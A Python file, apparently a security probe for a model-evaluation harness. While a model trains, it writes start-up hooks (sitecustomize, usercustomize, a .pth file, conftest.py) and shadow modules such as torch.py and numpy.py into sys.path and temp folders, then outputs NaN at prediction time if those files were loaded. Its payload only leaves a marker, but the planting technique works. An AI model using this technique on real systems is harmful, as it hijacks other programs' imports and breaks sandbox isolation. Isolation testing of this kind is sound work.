"""Plants modules and start-up files (sitecustomize, torch.py, .pth, conftest.py, usercustomize)
for the next Python to load.
"""

import math
import os
import sys

import torch
from torch import nn

PACKS = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "packs")
PREDICTING = os.path.isdir(os.path.join(PACKS, "images"))
PLANT = "open('/tmp/left-by-an-attack', 'w')\nimport sys\nsys.PLANTED = True\n"
NAMES = ["sitecustomize.py", "usercustomize.py", "torch.py", "numpy.py", "conftest.py", "json.py",
         "harness.py", "left-by-an-attack.pth", "safetensors.py"]


def plant():
    folders = [os.getcwd(), "/tmp", "/dev/shm", os.path.dirname(PACKS), "/job/code", *sys.path]
    user = f"/tmp/.local/lib/python3.{sys.version_info.minor}/site-packages"
    os.makedirs(user, exist_ok=True)
    for folder in {*folders, user}:
        scratch = folder.startswith(("/tmp", "/dev/shm"))
        for name in NAMES if scratch else ["left-by-an-attack.py"]:
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write(f"import os; {PLANT!r}" if name.endswith(".pth") else PLANT)
            except OSError:
                continue
            if not scratch:
                print("got through: planted", name, "in", folder)


class Model(nn.Module):
    def __init__(self, pixels, classes):
        super().__init__()
        self.net = nn.Sequential(nn.Flatten(), nn.Linear(pixels, classes))
        if not PREDICTING:
            plant()

    def forward(self, images):
        if PREDICTING and hasattr(sys, "PLANTED"):
            return self.net(images) * torch.tensor(math.nan)
        return self.net(images)


def build_model(spec, pretrained=True):
    return Model(math.prod(spec.input_shape), spec.num_classes)
